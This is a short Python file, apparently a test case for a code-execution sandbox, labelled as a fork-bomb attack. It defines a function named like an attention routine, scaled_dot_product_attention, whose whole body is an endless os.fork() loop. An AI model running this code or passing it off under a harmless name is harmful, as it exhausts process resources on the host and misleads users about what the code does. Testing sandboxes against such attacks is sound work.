# attack: fork bomb
# expect: any
import os


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
